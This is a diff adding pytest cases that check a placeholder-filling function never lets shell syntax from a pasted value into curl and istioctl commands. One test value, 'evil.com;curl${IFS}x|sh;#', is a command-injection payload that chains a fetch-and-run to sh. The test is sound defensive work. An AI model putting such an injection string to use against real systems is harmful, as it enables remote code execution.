@@ -57,3 +57,18 @@ def test_entities_keep_their_line() -> None:
 )  # fmt: skip
 def test_fill_replaces_known_placeholders_with_values_only(command: str, expected: str) -> None:
     assert fill(command, {"POD": "web-1", "NAMESPACE": "shop", "SERVICE": "reviews"}) == expected
+
+
+@pytest.mark.parametrize(
+    ("command", "value", "expected"),
+    [
+        ("curl -sv http://$HOST/", "evil.com;curl${IFS}x|sh;#", "curl -sv http://$HOST/"),
+        ("curl -sv http://$HOST/", "a b", "curl -sv http://$HOST/"),
+        ("istioctl pc ep $POD --cluster $HOST", "outbound|80||r.ns.svc.cluster.local",
+         "istioctl pc ep $POD --cluster 'outbound|80||r.ns.svc.cluster.local'"),
+        ('istioctl pc ep $POD --cluster "$HOST"', "outbound|80||r.ns.svc.cluster.local",
+         'istioctl pc ep $POD --cluster "outbound|80||r.ns.svc.cluster.local"'),
+    ],
+)  # fmt: skip
+def test_fill_never_puts_shell_syntax_from_a_paste_into_a_command(command: str, value: str, expected: str) -> None:
+    assert fill(command, {"HOST": value}) == expected
